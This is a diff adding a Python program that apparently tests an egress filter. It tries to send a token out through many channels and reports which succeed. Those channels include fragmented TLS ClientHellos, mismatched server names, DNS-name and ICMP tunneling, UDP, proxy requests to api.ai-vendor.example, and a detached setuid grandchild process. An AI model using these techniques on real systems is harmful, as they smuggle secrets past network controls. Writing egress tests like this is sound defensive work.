@@ -1,0 +1,189 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A program that tries to get a token out. Prints what happened: "sent", or the error's name and the milliseconds it took."""
+import os
+import random
+import socket
+import ssl
+import struct
+import sys
+import time
+
+MODE, ARGS = sys.argv[1], sys.argv[2:]
+TOKEN = ARGS[-1]
+
+
+def request(host):
+    return ("POST /x HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (host, len(TOKEN), TOKEN)).encode()
+
+
+def dial(addr, port):
+    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    s.settimeout(5)
+    s.connect((addr, port))
+    return s
+
+
+def pieces(hello, how):
+    """The bytes of a first flight, cut as `how` says."""
+    if how == "two":
+        return [hello[:60], hello[60:]]
+    if how == "bytes":
+        return [hello[i:i + 1] for i in range(len(hello))]
+    if how == "records":
+        body, out = hello[5:], []
+        for i in range(0, len(body), 20):
+            part = body[i:i + 20]
+            out.append(hello[:3] + struct.pack("!H", len(part)) + part)
+        return [b"".join(out)]
+    return [hello]
+
+
+def tls(addr, sni, how="whole", sock=None):
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    if how == "big":  # as long as a hello with a post-quantum key share
+        ctx.set_alpn_protocols(["%d" % i * 120 for i in range(1, 10)] + ["http/1.1", "x" * 250, "y" * 250])
+    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+    t = ctx.wrap_bio(into, out, server_hostname=sni or None)
+    s = sock or dial(addr, 443)
+    first = True
+
+    def flush():
+        nonlocal first
+        data = out.read()
+        if first and data:
+            first = False
+            for p in pieces(data, how):
+                s.send(p)
+                if how in ("two", "bytes"):
+                    time.sleep(0.002)
+        elif data:
+            s.sendall(data)
+
+    while True:
+        try:
+            t.do_handshake()
+            break
+        except ssl.SSLWantReadError:
+            flush()
+            data = s.recv(65536)
+            if not data:
+                raise ConnectionResetError("closed in the handshake")
+            into.write(data)
+    flush()
+    t.write(request(sni or addr))
+    flush()
+    while True:
+        data = s.recv(65536)
+        if not data:
+            return
+        into.write(data)
+        try:
+            if t.read(65536):
+                return
+        except ssl.SSLWantReadError:
+            pass
+
+
+def question(name, qtype, ident=None):
+    q = struct.pack("!HHHHHH", ident or random.randrange(65536), 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\0" + struct.pack("!HH", qtype, 1)
+
+
+def main():
+    if MODE == "https":  # host
+        tls(socket.getaddrinfo(ARGS[0], 443)[0][4][0], ARGS[0])
+    elif MODE == "at":  # address, server name, how
+        tls(ARGS[0], ARGS[1] if ARGS[1] != "-" else "", ARGS[2])
+    elif MODE == "known-at":  # ask for an allowed name first, then its address with another server name
+        addr = socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0]
+        tls(addr, ARGS[1] if ARGS[1] != "-" else "", ARGS[2])
+    elif MODE == "http":  # host, port
+        s = dial(socket.getaddrinfo(ARGS[0], int(ARGS[1]), socket.AF_INET)[0][4][0], int(ARGS[1]))
+        s.sendall(request(ARGS[0]))
+        s.recv(100)
+    elif MODE == "udp":  # address, port
+        s = socket.socket(socket.AF_INET6 if ":" in ARGS[0] else socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(TOKEN.encode(), (ARGS[0], int(ARGS[1])))
+    elif MODE == "udp-connected":
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.connect((socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0], int(ARGS[1])))
+        s.send(TOKEN.encode())
+    elif MODE == "mapped":  # v4-mapped v6 address
+        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+        s.settimeout(5)
+        s.connect(("::ffff:" + ARGS[0], 80))
+        s.sendall(request(ARGS[0]))
+        s.recv(100)
+    elif MODE == "fastopen":
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.sendto(request(ARGS[0]), 0x20000000, (ARGS[0], 80))
+        s.settimeout(5)
+        s.recv(100)
+    elif MODE == "dns":  # resolver, name, type
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(2)
+        s.sendto(question(ARGS[1].replace("TOKEN", TOKEN), int(ARGS[2])), (ARGS[0], 53))
+        s.recv(2000)
+    elif MODE == "dns-tail":  # an allowed question with a token behind it
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(question(ARGS[1], 1) + TOKEN.encode(), (ARGS[0], 53))
+    elif MODE == "dns-tcp":
+        s = dial(ARGS[0], 53)
+        q = question(ARGS[1].replace("TOKEN", TOKEN), 1)
+        s.sendall(struct.pack("!H", len(q)) + q)
+        s.recv(2000)
+    elif MODE == "proxy":  # host and port to CONNECT to, server name inside
+        s = dial(socket.getaddrinfo("proxy.acme.example", 3128, socket.AF_INET)[0][4][0], 3128)
+        s.sendall(("CONNECT %s:%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (ARGS[0], ARGS[1], ARGS[0])).encode())
+        if not s.recv(200).startswith(b"HTTP/1.1 200"):
+            raise ConnectionRefusedError("the proxy says no")
+        tls(None, ARGS[2], sock=s)
+    elif MODE == "proxy-get":
+        s = dial(socket.getaddrinfo("proxy.acme.example", 3128, socket.AF_INET)[0][4][0], 3128)
+        s.sendall(("GET http://api.ai-vendor.example/%s HTTP/1.1\r\nHost: api.ai-vendor.example\r\n\r\n" % TOKEN).encode())
+        s.recv(200)
+    elif MODE == "icmp":
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+        p = b"\x08\0\0\0\0\1\0\1" + TOKEN.encode()
+        p += b"\0" * (len(p) % 2)
+        c = sum(struct.unpack("!%dH" % (len(p) // 2), p))
+        c = (c >> 16) + (c & 0xffff)
+        s.sendto(p[:2] + struct.pack("!H", ~(c + (c >> 16)) & 0xffff) + p[4:], (ARGS[0], 0))
+    elif MODE == "double-fork":  # a grandchild with a session of its own does it
+        if os.fork():
+            os.wait()
+            time.sleep(1)
+            return
+        os.setsid()
+        if os.fork():
+            os._exit(0)
+        os.setuid(65534)
+        os.execv(sys.executable, [sys.executable, __file__, "at", ARGS[0], "api.ai-vendor.example", "whole", TOKEN])
+    elif MODE == "loopback":
+        s = dial(ARGS[0], int(ARGS[1]))
+        s.sendall(TOKEN.encode())
+        s.recv(10)
+    elif MODE == "listen":
+        s = socket.socket()
+        s.bind(("0.0.0.0", int(ARGS[0])))
+        s.listen()
+        s.settimeout(3)
+        c, _ = s.accept()
+        c.sendall(TOKEN.encode())
+    else:
+        raise SystemExit("no mode " + MODE)
+
+
+started = time.time()
+try:
+    main()
+    print("sent")
+except OSError as e:
+    import errno
+    print("%s %.0fms" % (errno.errorcode.get(e.errno, type(e).__name__), (time.time() - started) * 1000))
+    sys.exit(1)
